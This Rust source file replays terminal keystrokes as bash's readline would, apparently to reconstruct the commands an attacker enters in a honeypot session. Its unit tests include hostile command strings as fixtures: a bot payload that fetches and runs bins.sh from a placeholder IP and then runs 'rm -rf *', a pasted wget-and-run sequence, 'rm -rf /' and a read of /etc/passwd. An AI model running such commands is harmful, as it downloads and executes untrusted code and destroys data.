//! Replays the keys a client sends on a terminal as bash's readline (emacs mode)
//! would, to recover the lines the shell received: editing keys, history recall,
//! bracketed paste, several lines in one write.
//!
//! Every byte comes from the attacker: sequences may be split anywhere between
//! writes, buffers are bounded, and nothing panics.

/// A line the user entered (Enter pressed), as the shell received it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EnteredLine {
    /// The text.
    pub text: String,
    /// The line held input that cannot be replayed exactly (tab completion, unknown
    /// escape sequences, text past the length bound).
    pub approximate: bool,
}

/// Longest line kept (in characters).
const MAX_LINE: usize = 64 << 10;
/// History entries kept.
const MAX_HISTORY: usize = 1000;
/// Longest escape sequence kept while waiting for its end.
const MAX_SEQUENCE: usize = 64;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Parse {
    /// Plain input.
    Ground,
    /// After ESC.
    Escape,
    /// In `ESC [` ... (parameters so far in `sequence`).
    Csi,
    /// After `ESC O`.
    Ss3,
}

/// The line editor of one terminal.
#[derive(Debug, Default)]
pub struct LineEditor {
    line: Vec<char>,
    cursor: usize,
    approximate: bool,
    history: Vec<String>,
    /// Position while browsing history (`history.len()` = the line being edited).
    browsing: Option<usize>,
    /// The line being edited before browsing started.
    stash: Vec<char>,
    kill: Vec<char>,
    parse: ParseState,
    /// Bytes of an incomplete UTF-8 character.
    utf8: Vec<u8>,
    /// Inside a bracketed paste.
    pasting: bool,
    /// Previous byte was `\r` (so a following `\n` is the same Enter).
    after_cr: bool,
}

#[derive(Debug)]
struct ParseState {
    state: Parse,
    sequence: Vec<u8>,
}

impl Default for ParseState {
    fn default() -> Self {
        ParseState {
            state: Parse::Ground,
            sequence: Vec::new(),
        }
    }
}

/// What a key does.
enum Key {
    Char(char),
    Enter,
    Backspace,
    Delete,
    /// Ctrl-D: delete, or end of input on an empty line.
    EndOfInput,
    Left,
    Right,
    WordLeft,
    WordRight,
    Home,
    End,
    Up,
    Down,
    KillToStart,
    KillToEnd,
    KillWordBack,
    Yank,
    Interrupt,
    Tab,
    PasteStart,
    PasteEnd,
    Ignored,
    Unknown,
}

impl LineEditor {
    /// An editor with an empty line and history.
    pub fn new() -> Self {
        Self::default()
    }

    /// Feeds client bytes; returns the lines completed by them, in order.
    pub fn feed(&mut self, bytes: &[u8]) -> Vec<EnteredLine> {
        let mut entered = Vec::new();
        for &byte in bytes {
            if let Some(key) = self.decode(byte) {
                self.apply(key, &mut entered);
            }
        }
        entered
    }

    /// The line being typed, not yet entered (None when empty).
    pub fn pending(&self) -> Option<EnteredLine> {
        (!self.line.is_empty()).then(|| EnteredLine {
            text: self.line.iter().collect(),
            approximate: self.approximate,
        })
    }

    /// Turns one byte into a key, once a key is complete.
    fn decode(&mut self, byte: u8) -> Option<Key> {
        let after_cr = std::mem::replace(&mut self.after_cr, false);
        match self.parse.state {
            Parse::Ground => {}
            Parse::Escape => {
                self.parse.state = Parse::Ground;
                return Some(match byte {
                    b'[' => {
                        self.parse.state = Parse::Csi;
                        self.parse.sequence.clear();
                        return None;
                    }
                    b'O' => {
                        self.parse.state = Parse::Ss3;
                        return None;
                    }
                    b'b' | b'B' => Key::WordLeft,
                    b'f' | b'F' => Key::WordRight,
                    0x7f | 0x08 => Key::KillWordBack,
                    0x1b => {
                        self.parse.state = Parse::Escape;
                        Key::Unknown
                    }
                    _ => Key::Unknown,
                });
            }
            Parse::Csi => {
                if (0x40..=0x7e).contains(&byte) {
                    self.parse.state = Parse::Ground;
                    let params = std::mem::take(&mut self.parse.sequence);
                    return Some(csi_key(&params, byte));
                }
                if self.parse.sequence.len() >= MAX_SEQUENCE {
                    self.parse.state = Parse::Ground;
                    self.parse.sequence.clear();
                    return Some(Key::Unknown);
                }
                self.parse.sequence.push(byte);
                return None;
            }
            Parse::Ss3 => {
                self.parse.state = Parse::Ground;
                return Some(match byte {
                    b'A' => Key::Up,
                    b'B' => Key::Down,
                    b'C' => Key::Right,
                    b'D' => Key::Left,
                    b'H' => Key::Home,
                    b'F' => Key::End,
                    _ => Key::Unknown,
                });
            }
        }
        // Ground: a UTF-8 character in progress?
        if !self.utf8.is_empty() || byte >= 0x80 {
            return self.decode_utf8(byte);
        }
        Some(match byte {
            0x1b => {
                self.parse.state = Parse::Escape;
                return None;
            }
            b'\r' => {
                self.after_cr = true;
                Key::Enter
            }
            b'\n' if after_cr && !self.pasting => return None,
            b'\n' => Key::Enter,
            0x7f | 0x08 => Key::Backspace,
            0x01 => Key::Home,
            0x05 => Key::End,
            0x02 => Key::Left,
            0x06 => Key::Right,
            0x10 => Key::Up,
            0x0e => Key::Down,
            0x15 => Key::KillToStart,
            0x0b => Key::KillToEnd,
            0x17 => Key::KillWordBack,
            0x19 => Key::Yank,
            0x03 => Key::Interrupt,
            0x04 => Key::EndOfInput,
            b'\t' => Key::Tab,
            0x00..=0x1f => Key::Ignored,
            printable => Key::Char(char::from(printable)),
        })
    }

    fn decode_utf8(&mut self, byte: u8) -> Option<Key> {
        let expected = |first: u8| match first {
            0xc2..=0xdf => 2,
            0xe0..=0xef => 3,
            0xf0..=0xf4 => 4,
            _ => 0,
        };
        if self.utf8.is_empty() {
            if expected(byte) == 0 {
                return Some(Key::Char(char::REPLACEMENT_CHARACTER));
            }
            self.utf8.push(byte);
            return None;
        }
        if byte & 0xc0 != 0x80 {
            // The character was cut short: replace it, then start over with this byte.
            self.utf8.clear();
            let replaced = Key::Char(char::REPLACEMENT_CHARACTER);
            if byte < 0x80 {
                // Re-decoding an ASCII byte here would lose it; insert both.
                let second = self.decode(byte);
                self.insert(char::REPLACEMENT_CHARACTER);
                return second;
            }
            if expected(byte) > 0 {
                self.utf8.push(byte);
                return Some(replaced);
            }
            self.insert(char::REPLACEMENT_CHARACTER);
            return Some(replaced);
        }
        self.utf8.push(byte);
        if self.utf8.len() < expected(self.utf8[0]) {
            return None;
        }
        let bytes = std::mem::take(&mut self.utf8);
        let ch = std::str::from_utf8(&bytes)
            .ok()
            .and_then(|s| s.chars().next())
            .unwrap_or(char::REPLACEMENT_CHARACTER);
        Some(Key::Char(ch))
    }

    fn insert(&mut self, ch: char) {
        if self.line.len() >= MAX_LINE {
            self.approximate = true;
            return;
        }
        self.line.insert(self.cursor, ch);
        self.cursor += 1;
    }

    fn apply(&mut self, key: Key, entered: &mut Vec<EnteredLine>) {
        if self.pasting {
            match key {
                Key::PasteEnd => self.pasting = false,
                Key::Char(ch) => self.insert(ch),
                Key::Enter => self.insert('\n'),
                Key::Tab => self.insert('\t'),
                _ => {}
            }
            return;
        }
        match key {
            Key::Char(ch) => self.insert(ch),
            Key::Enter => self.enter(entered),
            Key::Backspace => {
                if self.cursor > 0 {
                    self.cursor -= 1;
                    self.line.remove(self.cursor);
                }
            }
            Key::Delete => {
                if self.cursor < self.line.len() {
                    self.line.remove(self.cursor);
                }
            }
            Key::EndOfInput => {
                if self.line.is_empty() {
                    entered.push(EnteredLine {
                        text: "exit".to_owned(),
                        approximate: false,
                    });
                    self.reset();
                } else if self.cursor < self.line.len() {
                    self.line.remove(self.cursor);
                }
            }
            Key::Left => self.cursor = self.cursor.saturating_sub(1),
            Key::Right => self.cursor = (self.cursor + 1).min(self.line.len()),
            Key::WordLeft => self.cursor = self.word_start(),
            Key::WordRight => self.cursor = self.word_end(),
            Key::Home => self.cursor = 0,
            Key::End => self.cursor = self.line.len(),
            Key::Up => self.recall(true),
            Key::Down => self.recall(false),
            Key::KillToStart => {
                self.set_kill(self.line[..self.cursor].to_vec());
                self.line.drain(..self.cursor);
                self.cursor = 0;
            }
            Key::KillToEnd => {
                self.set_kill(self.line[self.cursor..].to_vec());
                self.line.truncate(self.cursor);
            }
            Key::KillWordBack => {
                let start = self.word_start();
                self.set_kill(self.line[start..self.cursor].to_vec());
                self.line.drain(start..self.cursor);
                self.cursor = start;
            }
            Key::Yank => {
                for ch in self.kill.clone() {
                    self.insert(ch);
                }
            }
            Key::Interrupt => self.reset(),
            Key::Tab => self.approximate = true,
            Key::PasteStart => self.pasting = true,
            Key::PasteEnd | Key::Ignored => {}
            Key::Unknown => self.approximate = true,
        }
    }

    fn set_kill(&mut self, text: Vec<char>) {
        if !text.is_empty() {
            self.kill = text;
            self.kill.truncate(MAX_LINE);
        }
    }

    /// Start of the word before the cursor (whitespace-delimited, as Ctrl-W).
    fn word_start(&self) -> usize {
        let mut at = self.cursor;
        while at > 0 && self.line[at - 1].is_whitespace() {
            at -= 1;
        }
        while at > 0 && !self.line[at - 1].is_whitespace() {
            at -= 1;
        }
        at
    }

    /// End of the word after the cursor.
    fn word_end(&self) -> usize {
        let mut at = self.cursor;
        while at < self.line.len() && self.line[at].is_whitespace() {
            at += 1;
        }
        while at < self.line.len() && !self.line[at].is_whitespace() {
            at += 1;
        }
        at
    }

    fn recall(&mut self, older: bool) {
        let newest = self.history.len();
        let current = self.browsing.unwrap_or(newest);
        let next = if older {
            if current == 0 {
                return;
            }
            current - 1
        } else {
            if current >= newest {
                return;
            }
            current + 1
        };
        if self.browsing.is_none() {
            self.stash = self.line.clone();
        }
        self.line = if next == newest {
            std::mem::take(&mut self.stash)
        } else {
            self.history[next].chars().collect()
        };
        self.browsing = (next != newest).then_some(next);
        self.cursor = self.line.len();
    }

    /// Enter: the line (or, after a paste, each of its lines) goes to the shell.
    fn enter(&mut self, entered: &mut Vec<EnteredLine>) {
        let text: String = self.line.iter().collect();
        let approximate = self.approximate;
        self.reset();
        for line in text.split('\n') {
            if line.trim().is_empty() {
                continue;
            }
            if self.history.len() >= MAX_HISTORY {
                self.history.remove(0);
            }
            self.history.push(line.to_owned());
            entered.push(EnteredLine {
                text: line.to_owned(),
                approximate,
            });
        }
    }

    fn reset(&mut self) {
        self.line.clear();
        self.cursor = 0;
        self.approximate = false;
        self.browsing = None;
        self.stash.clear();
    }
}

/// The key of a CSI sequence `ESC [ params final`.
fn csi_key(params: &[u8], final_byte: u8) -> Key {
    match (params, final_byte) {
        (b"", b'A') => Key::Up,
        (b"", b'B') => Key::Down,
        (b"", b'C') => Key::Right,
        (b"", b'D') => Key::Left,
        (b"", b'H') | (b"1" | b"7", b'~') => Key::Home,
        (b"", b'F') | (b"4" | b"8", b'~') => Key::End,
        (b"3", b'~') => Key::Delete,
        (b"1;5" | b"1;3", b'C') => Key::WordRight,
        (b"1;5" | b"1;3", b'D') => Key::WordLeft,
        (b"200", b'~') => Key::PasteStart,
        (b"201", b'~') => Key::PasteEnd,
        (b"2", b'~') => Key::Ignored, // Insert
        _ => Key::Unknown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(editor: &mut LineEditor, input: &[u8]) -> Vec<String> {
        editor.feed(input).into_iter().map(|l| l.text).collect()
    }

    fn typed(input: &[u8]) -> Vec<String> {
        lines(&mut LineEditor::new(), input)
    }

    #[test]
    fn plain_lines() {
        assert_eq!(typed(b"ls -la\r"), ["ls -la"]);
        assert_eq!(typed(b"id\r\nwhoami\n"), ["id", "whoami"]);
        assert!(typed(b"\r\r\n   \r").is_empty());
        let mut editor = LineEditor::new();
        assert!(editor.feed(b"una").is_empty());
        assert_eq!(editor.pending().map(|p| p.text), Some("una".to_owned()));
        assert_eq!(lines(&mut editor, b"me\r"), ["uname"]);
        assert_eq!(editor.pending(), None);
    }

    #[test]
    fn editing_keys() {
        assert_eq!(typed(b"uanme\x7f\x7f\x7f\x7fname -a\r"), ["uname -a"]);
        assert_eq!(typed(b"rm -rf /\x15echo safe\r"), ["echo safe"]);
        assert_eq!(typed(b"cat /etc/passwd\x17shadow\r"), ["cat shadow"]);
        assert_eq!(
            typed(b"echo world\x1b[D\x1b[D\x1b[D\x1b[D\x1b[Dhello \r"),
            ["echo hello world"]
        );
        assert_eq!(typed(b"ls\x01sudo \x05 -l\r"), ["sudo ls -l"]);
        assert_eq!(typed(b"abc\x1b[H\x1b[3~\x1b[F!\r"), ["bc!"]);
        assert_eq!(typed(b"one two\x1bb\x0b\x19\x19\r"), ["one twotwo"]);
        assert_eq!(typed(b"a b c\x1b[1;5D\x1b[1;5DX\r"), ["a Xb c"]);
        assert_eq!(typed(b"echo x\x1b\x7fy\r"), ["echo y"]);
    }

    #[test]
    fn history_recall() {
        let mut editor = LineEditor::new();
        assert_eq!(lines(&mut editor, b"uname -a\rid\r"), ["uname -a", "id"]);
        assert_eq!(lines(&mut editor, b"\x1b[A\r"), ["id"]);
        assert_eq!(lines(&mut editor, b"\x1b[A\x1b[A\x1b[A\r"), ["uname -a"]);
        assert_eq!(
            lines(&mut editor, b"who\x1b[A\x1b[B\x1b[B\r"),
            ["who"],
            "down past the newest restores the line"
        );
        assert_eq!(
            lines(
                &mut editor,
                b"\x1bOA\x08\x08\x08\x08\x08\x08\x08\x08\x08whoami\r"
            ),
            ["whoami"]
        );
        assert_eq!(lines(&mut editor, b"\x10\x01sudo \r"), ["sudo whoami"]);
    }

    #[test]
    fn control_keys() {
        assert!(typed(b"rm -rf /\x03").is_empty());
        assert_eq!(typed(b"rm -rf /\x03id\r"), ["id"]);
        assert_eq!(typed(b"\x04"), ["exit"]);
        assert_eq!(typed(b"ab\x01\x04\r"), ["b"]);
        assert_eq!(typed(b"l\x0cs\r"), ["ls"]);
        let mut editor = LineEditor::new();
        let entered = editor.feed(b"cat /et\tpasswd\r");
        assert_eq!(entered[0].text, "cat /etpasswd");
        assert!(entered[0].approximate);
        let entered = editor.feed(b"ls\x1b[99zx\r");
        assert_eq!(entered[0].text, "lsx");
        assert!(entered[0].approximate);
        assert!(!editor.feed(b"ok\r")[0].approximate, "flags reset per line");
    }

    #[test]
    fn pastes() {
        assert_eq!(
            typed(b"\x1b[200~cd /tmp\nwget http://x/a.sh\r\nsh a.sh\x1b[201~\r"),
            ["cd /tmp", "wget http://x/a.sh", "sh a.sh"]
        );
        let mut editor = LineEditor::new();
        assert!(
            editor.feed(b"\x1b[200~echo a\necho b\x1b[201~").is_empty(),
            "a paste waits for Enter"
        );
        assert_eq!(lines(&mut editor, b"\r"), ["echo a", "echo b"]);
        assert_eq!(lines(&mut editor, b"\x1b[A\r"), ["echo b"]);
        assert_eq!(
            typed(b"cd /tmp\nwget http://x/a.sh\nsh a.sh\n"),
            ["cd /tmp", "wget http://x/a.sh", "sh a.sh"]
        );
    }

    /// What OpenSSH sends for a person typing `uname -a` with a typo fixed, then
    /// recalling it and prefixing `sudo `; and a bot's one-write payload.
    const HUMAN: &[u8] = b"unma\x7f\x7fame -a\rid\r\x1b[A\x1b[A\x01sudo \r\x1b[200~ls /tmp\x1b[201~\rcat /etc/os-rel\t\r\x03exit\r";
    const BOT: &[u8] = b"cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *\n";

    #[test]
    fn recorded_sessions() {
        assert_eq!(
            typed(HUMAN),
            [
                "uname -a",
                "id",
                "sudo uname -a",
                "ls /tmp",
                "cat /etc/os-rel",
                "exit"
            ]
        );
        assert_eq!(
            typed(BOT),
            [
                "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *"
            ]
        );
    }

    #[test]
    fn any_split_gives_the_same_lines() {
        let mut input = HUMAN.to_vec();
        input.extend_from_slice("echo héllo ☃ 🎉\r".as_bytes());
        let whole = typed(&input);
        assert_eq!(whole.last().map(String::as_str), Some("echo héllo ☃ 🎉"));
        for split in 0..input.len() {
            let mut editor = LineEditor::new();
            let mut got = lines(&mut editor, &input[..split]);
            got.extend(lines(&mut editor, &input[split..]));
            assert_eq!(got, whole, "split at {split}");
        }
        let mut editor = LineEditor::new();
        let mut one_by_one = Vec::new();
        for byte in &input {
            one_by_one.extend(lines(&mut editor, std::slice::from_ref(byte)));
        }
        assert_eq!(one_by_one, whole);
    }

    #[test]
    fn invalid_utf8_becomes_replacement_characters() {
        assert_eq!(typed(b"a\xffb\xe2\x98c\r"), ["a\u{fffd}b\u{fffd}c"]);
        assert_eq!(typed(b"x\xc3\r"), ["x\u{fffd}"]);
    }

    #[test]
    fn bounds_hold() {
        let mut editor = LineEditor::new();
        let long = vec![b'a'; MAX_LINE + 1000];
        assert!(editor.feed(&long).is_empty());
        let entered = editor.feed(b"\r");
        assert_eq!(entered[0].text.len(), MAX_LINE);
        assert!(entered[0].approximate);
        for i in 0..(MAX_HISTORY + 50) {
            editor.feed(format!("c{i}\r").as_bytes());
        }
        assert_eq!(editor.history.len(), MAX_HISTORY);
        let mut csi = b"\x1b[".to_vec();
        csi.extend(std::iter::repeat_n(b'1', 10_000));
        csi.extend_from_slice(b"ok\r");
        let entered = editor.feed(&csi);
        assert_eq!(entered.len(), 1);
    }

    #[test]
    fn no_input_panics() {
        let mut editor = LineEditor::new();
        for byte in 0..=255u8 {
            editor.feed(&[byte]);
            editor.feed(&[0x1b, byte]);
            editor.feed(&[0x1b, b'[', byte]);
            editor.feed(&[0x1b, b'O', byte]);
        }
        let mut seed = 0x1234_5678u32;
        for _ in 0..200 {
            let junk: Vec<u8> = (0..997)
                .map(|_| {
                    seed = seed.wrapping_mul(1_103_515_245).wrapping_add(12345);
                    (seed >> 16) as u8
                })
                .collect();
            let _ = editor.feed(&junk);
            let _ = editor.pending();
        }
    }
}
